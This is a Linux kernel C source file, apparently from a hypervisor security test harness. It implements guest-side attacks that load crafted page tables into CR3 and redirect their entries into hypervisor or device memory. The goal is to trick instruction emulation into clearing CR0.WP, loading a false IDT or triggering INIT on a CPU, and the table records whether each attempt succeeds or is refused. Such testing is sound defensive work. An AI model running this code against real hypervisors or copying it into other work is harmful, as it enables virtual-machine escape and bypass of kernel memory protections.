// SPDX-License-Identifier: GPL-2.0-only
/*
 * Page tables of the attacker's own, loaded into CR3, for whoever decodes an instruction that
 * exits. Either they lie in a device's memory; or, on their way to the instruction or to its
 * operand, an entry of theirs leads into hypervisor memory, to a device or nowhere, while the CPU
 * goes on with what it remembers. Or CR3 itself names hypervisor memory.
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/pci.h>
#include <linux/pgtable.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <asm/apic.h>
#include <asm/cpufeature.h>
#include <asm/desc.h>
#include <asm/special_insns.h>

#include "attack.h"
#include "execute.h"
#include "hypervisor.h"

/*
 * Each in a part of its own of the address space, so that an entry can be changed at any level
 * for one of them alone. The instruction is the last of its page, a RET the first of the next.
 */
enum place {
	PLACE_CODE,
	PLACE_RETURN,
	PLACE_OPERAND,
	PLACES
};

#define LEVELS_MAX   5
#define TABLES	     (1 + PLACES * (LEVELS_MAX - 1))
#define TABLES_ORDER 4
#define TABLES_SIZE  (PAGE_SIZE << TABLES_ORDER)
#define RET	     0xc3
/* Behind what shows on a screen. */
#define SCREEN_SIZE 0x800000

/* An instruction that exits after lock. Called with its operand in RDI and the value in RSI. */
struct target {
	const char *bytes;
	u64 (*get)(void);
	void (*put)(u64 value);
	u64 (*wanted)(u64 was);
	u64 (*operand)(void *page, u64 page_va, u64 wanted);
	enum place last; /* from PLACE_CODE on: what may be led astray */
};

/* @tables: the root, then those of each place, from the top */
struct world {
	const struct target *target;
	unsigned int levels;
	u64 *tables, tables_pa;
	u8 *pages; /* of the places, one after the other */
};

/* An entry changed behind the CPU's back. */
struct detour {
	enum place place;
	unsigned int level;
	u64 frame;
};

/* ---- targets ---- */

static u64 get_cr0(void)
{
	return native_read_cr0();
}

static void put_cr0(u64 value)
{
	asm volatile("movq %0, %%cr0" : : "r"(value) : "memory");
}

static u64 wanted_cr0(u64 was)
{
	return was & ~X86_CR0_WP;
}

static u64 operand_cr0(void *page, u64 page_va, u64 wanted)
{
	return wanted;
}

static gate_desc false_idt[IDT_ENTRIES] __aligned(PAGE_SIZE);

static u64 get_idtr(void)
{
	struct desc_ptr table;

	store_idt(&table);
	return table.address;
}

static void put_idtr(u64 value)
{
	const struct desc_ptr table = { sizeof(false_idt) - 1, value };

	native_load_idt(&table);
}

static u64 wanted_idtr(u64 was)
{
	memcpy(false_idt, (void *)was, sizeof(false_idt));
	return (u64)false_idt;
}

static u64 operand_idtr(void *page, u64 page_va, u64 wanted)
{
	*(struct desc_ptr *)page = (struct desc_ptr){ sizeof(false_idt) - 1, wanted };
	return page_va;
}

#define VECTOR_VA ((u8 *)APIC_BASE + APIC_LVTTHMR)

static u64 get_vector(void)
{
	return readl((void __iomem *)VECTOR_VA);
}

static void put_vector(u64 value)
{
	writel(value, (void __iomem *)VECTOR_VA);
}

static u64 wanted_vector(u64 was)
{
	return APIC_LVT_MASKED | APIC_DM_INIT;
}

static u64 operand_vector(void *page, u64 page_va, u64 wanted)
{
	return (u64)VECTOR_VA;
}

/* mov %rdi, %cr0; lidt (%rdi); mov %esi, (%rdi) */
static const struct target cr0 = { "\x0f\x22\xc7", get_cr0,	put_cr0,
				   wanted_cr0,	   operand_cr0, PLACE_CODE };
static const struct target idtr = { "\x0f\x01\x1f", get_idtr,	  put_idtr,
				    wanted_idtr,    operand_idtr, PLACE_OPERAND };
static const struct target vector = { "\x89\x37",    get_vector,     put_vector,
				      wanted_vector, operand_vector, PLACE_CODE };

/* ---- the page tables ---- */

/* The first place ends where the second begins. */
static u64 va_of(const struct world *w, enum place place)
{
	u64 span = 1ull << (PAGE_SHIFT + 9 * (w->levels - 1));

	return place == PLACE_CODE ? span - PAGE_SIZE : place * span;
}

/* In pages from the root. */
static unsigned int table_of(const struct world *w, enum place place, unsigned int level)
{
	return level == w->levels ? 0 : 1 + place * (LEVELS_MAX - 1) + level - 1;
}

static u64 *entry_of(const struct world *w, enum place place, unsigned int level)
{
	unsigned int index = va_of(w, place) >> (PAGE_SHIFT + 9 * (level - 1)) & 511;

	return w->tables + table_of(w, place, level) * PTRS_PER_PTE + index;
}

static u64 leads_to(const struct world *w, enum place place, unsigned int level)
{
	if (level == 1)
		return virt_to_phys(w->pages + place * PAGE_SIZE);
	return w->tables_pa + table_of(w, place, level - 1) * PAGE_SIZE;
}

/* With the kernel's half of the address space. */
static void fill(struct world *w)
{
	const u64 *kernel = __va(__read_cr3() & CR3_ADDR_MASK);
	unsigned int i, level;

	BUILD_BUG_ON(TABLES > 1 << TABLES_ORDER);
	for (i = 0; i < TABLES * PTRS_PER_PTE; i++)
		WRITE_ONCE(w->tables[i], i < PTRS_PER_PTE ? kernel[i] : 0);
	for (i = 0; i < PLACES; i++)
		for (level = w->levels; level; level--)
			WRITE_ONCE(*entry_of(w, i, level),
				   leads_to(w, i, level) | _KERNPG_TABLE_NOENC);
}

static int world_make(struct world *w, const struct target *target, u64 *tables, u64 pa)
{
	size_t size = strlen(target->bytes);

	w->target = target;
	w->levels = cpu_feature_enabled(X86_FEATURE_LA57) ? 5 : 4;
	w->tables = tables;
	w->tables_pa = pa;
	w->pages = (u8 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, 2);
	if (!w->pages)
		return -ENOMEM;
	w->pages[0] = RET;
	memcpy(w->pages + PAGE_SIZE - size, target->bytes, size);
	w->pages[PAGE_SIZE] = RET;
	fill(w);
	return 0;
}

static void world_free(struct world *w)
{
	free_pages((unsigned long)w->pages, 2);
}

/* ---- the attacks ---- */

static void warm(const struct world *w)
{
	void (*code)(void) = (void *)va_of(w, PLACE_CODE);
	void (*back)(void) = (void *)va_of(w, PLACE_RETURN);

	code();
	back();
	(void)READ_ONCE(*(u8 *)va_of(w, PLACE_OPERAND));
}

/* With the page tables in force, and the detour; interrupts are off. */
static void run_inside(struct attempt *t, struct world *w, const struct detour *d)
{
	size_t size = strlen(w->target->bytes);
	u64 *entry = d ? entry_of(w, d->place, d->level) : NULL, was = 0, operand;

	operand = w->target->operand(w->pages + PLACE_OPERAND * PAGE_SIZE,
				     va_of(w, PLACE_OPERAND), t->wanted);
	warm(w);
	if (entry) {
		was = READ_ONCE(*entry);
		WRITE_ONCE(*entry, d->frame << PAGE_SHIFT | _KERNPG_TABLE_NOENC);
	}
	t->trap = execute_call((void *)va_of(w, PLACE_RETURN) - size, size, operand, t->wanted,
			       NULL, NULL);
	if (entry)
		WRITE_ONCE(*entry, was);
}

/* True: the register has the attacker's value; it is put back. */
static bool run_once(struct attempt *t, struct world *w, const struct detour *d)
{
	unsigned long flags, cr3;
	u64 is;

	local_irq_save(flags);
	t->cpu = smp_processor_id();
	t->was = w->target->get();
	t->wanted = w->target->wanted(t->was);
	cr3 = __read_cr3();
	native_write_cr3(w->tables_pa);
	run_inside(t, w, d);
	native_write_cr3(cr3);
	is = w->target->get();
	if (is != t->was)
		w->target->put(t->was);
	local_irq_restore(flags);
	return is == t->wanted;
}

/* Every level, of the instruction and of its operand. */
static bool lead_to(struct attempt *t, struct world *w, u64 frame)
{
	struct detour d = { .frame = frame };
	bool done = false;

	for (d.place = PLACE_CODE; d.place <= w->target->last; d.place++)
		for (d.level = w->levels; d.level && d.place != PLACE_RETURN; d.level--)
			done |= run_once(t, w, &d);
	return done;
}

static bool lead_everywhere(struct attempt *t, struct world *w,
			    const struct hypervisor_memory *memory)
{
	/* Devices, and addresses at which there is nothing. */
	static const u64 elsewhere[] = { 0xa0, 0xfec00, 0xfee00, 1ull << 22, 1ull << 27 };
	bool done = false;
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(elsewhere); i++)
		done |= lead_to(t, w, elsewhere[i]);
	for (i = 0; i < memory->count; i++) {
		done |= lead_to(t, w, memory->run[i].pfn);
		done |= lead_to(t, w, memory->run[i].pfn + memory->run[i].pages - 1);
	}
	return done;
}

static enum attack_outcome astray(struct attempt *t, const struct target *target)
{
	struct hypervisor_memory memory;
	struct world w = { 0 };
	u64 *tables = (u64 *)__get_free_pages(GFP_KERNEL, TABLES_ORDER);
	bool done = false;
	int err = tables ? hypervisor_find(&memory) : -ENOMEM;

	if (!err)
		err = world_make(&w, target, tables, virt_to_phys(tables));
	if (!err) {
		attack_note(t, "%u runs of hypervisor memory", memory.count);
		done = lead_everywhere(t, &w, &memory);
		world_free(&w);
	}
	free_pages((unsigned long)tables, TABLES_ORDER);
	return err ? ATTACK_ERROR : done ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

/* The display's memory behaves as RAM does and is none. Ends with iounmap. */
static void __iomem *device_memory(u64 *pa)
{
	struct pci_dev *display = pci_get_class(PCI_CLASS_DISPLAY_VGA << 8, NULL);
	void __iomem *memory = NULL;

	if (display && pci_resource_len(display, 0) >= SCREEN_SIZE + TABLES_SIZE) {
		*pa = pci_resource_start(display, 0) + SCREEN_SIZE;
		memory = ioremap(*pa, TABLES_SIZE);
	}
	pci_dev_put(display);
	return memory;
}

static enum attack_outcome device(struct attempt *t, const struct target *target)
{
	struct world w = { 0 };
	u64 pa = 0;
	void __iomem *tables = device_memory(&pa);
	bool done;

	if (!tables || world_make(&w, target, (__force u64 *)tables, pa)) {
		attack_note(t, "no memory of a display");
		if (tables)
			iounmap(tables);
		return ATTACK_ERROR;
	}
	attack_note(t, "tables at %llx", pa);
	done = run_once(t, &w, NULL);
	world_free(&w);
	iounmap(tables);
	return done ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static enum attack_outcome cr0_astray(struct attempt *t)
{
	return astray(t, &cr0);
}

static enum attack_outcome idtr_astray(struct attempt *t)
{
	return astray(t, &idtr);
}

static enum attack_outcome vector_astray(struct attempt *t)
{
	return astray(t, &vector);
}

static enum attack_outcome cr0_device(struct attempt *t)
{
	return device(t, &cr0);
}

static enum attack_outcome idtr_device(struct attempt *t)
{
	return device(t, &idtr);
}

static enum attack_outcome vector_device(struct attempt *t)
{
	return device(t, &vector);
}

/*
 * The root itself. A processor's walk is refused, and so is that to the handler of the refusal:
 * who does this to himself stops.
 */
static enum attack_outcome hypervisor_root(struct attempt *t)
{
	u64 *own = (u64 *)__get_free_page(GFP_KERNEL), root;
	struct hypervisor_memory memory;
	unsigned long flags, cr3;

	if (!own || hypervisor_find(&memory))
		return ATTACK_ERROR;
	root = memory.count ? (u64)memory.run[0].pfn << PAGE_SHIFT : virt_to_phys(own);
	attack_note(t, "root at %llx", root);
	msleep(500); /* the report of the test machine must be out */
	local_irq_save(flags);
	cr3 = __read_cr3();
	memcpy(own, __va(cr3 & CR3_ADDR_MASK), PAGE_SIZE);
	native_write_cr3(root);
	t->outcome = __read_cr3() == root ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
	native_write_cr3(cr3);
	local_irq_restore(flags);
	free_page((unsigned long)own);
	return t->outcome;
}

/* ---- looks ---- */

struct look {
	const struct target *target;
	u64 value;
};

static void look_here(void *look)
{
	((struct look *)look)->value = ((struct look *)look)->target->get();
}

static int look_at(struct attempt *t, const struct target *target, u64 *is)
{
	struct look look = { target, 0 };
	int err = smp_call_function_single(t->cpu, look_here, &look, 1);

	*is = look.value;
	return err;
}

static int look_cr0(struct attempt *t, u64 *is)
{
	return look_at(t, &cr0, is);
}

static int look_idtr(struct attempt *t, u64 *is)
{
	return look_at(t, &idtr, is);
}

static int look_vector(struct attempt *t, u64 *is)
{
	return look_at(t, &vector, is);
}

#define ASTRAY " by own page tables that have been led astray since"
#define DEVICE " by own page tables in a device's memory"

#define DISPLAY .needs = "display"

/* Where the instruction cannot be read, the register it would change is not known. */
#define ASSET "page tables"

#define ROW(name_, title_, gives_, asset_, control_, run_, look_, ...)            \
	{                                                                         \
		.name = name_, .title = title_, .gives = gives_, .asset = asset_, \
		.control = control_, .run = run_, .look = look_, __VA_ARGS__      \
	}

#define CR0_ROW(name, how, control, run, ...)                                                  \
	ROW(name, "clear CR0.WP" how, "the kernel writes its read-only pages", ASSET, control, \
	    run, look_cr0, __VA_ARGS__)

#define IDTR_ROW(name, how, control, run, ...)                                                \
	ROW(name, "load a false IDT" how, "code at every interrupt or fault", ASSET, control, \
	    run, look_idtr, __VA_ARGS__)

#define VECTOR_ROW(name, how, control, run, ...)                                       \
	ROW(name, "have a local vector deliver INIT" how, "a CPU that nobody watches", \
	    "restart of a CPU", control, run, look_vector, __VA_ARGS__)

static const struct attack cr3_attacks[] = {
	CR0_ROW("cr3-wp-clear", ASTRAY, ATTACK_PRELAUNCH, cr0_astray),
	IDTR_ROW("cr3-lidt", ASTRAY, ATTACK_PRELAUNCH, idtr_astray),
	VECTOR_ROW("cr3-init-local", ASTRAY, ATTACK_PRELAUNCH, vector_astray),
	CR0_ROW("cr3-device-wp-clear", DEVICE, ATTACK_BARE, cr0_device, DISPLAY),
	IDTR_ROW("cr3-device-lidt", DEVICE, ATTACK_BARE, idtr_device, DISPLAY),
	VECTOR_ROW("cr3-device-init-local", DEVICE, ATTACK_BARE, vector_device, DISPLAY),
	{
		.name = "cr3-hypervisor",
		.title = "load CR3 with hypervisor memory",
		.gives = "its content, used as page tables",
		.asset = "hypervisor memory",
		.control = ATTACK_PRELAUNCH,
		.own_vm = true,
		.stops = true,
		.run = hypervisor_root,
	},
};

const struct attack_table cr3_table = { cr3_attacks, ARRAY_SIZE(cr3_attacks) };
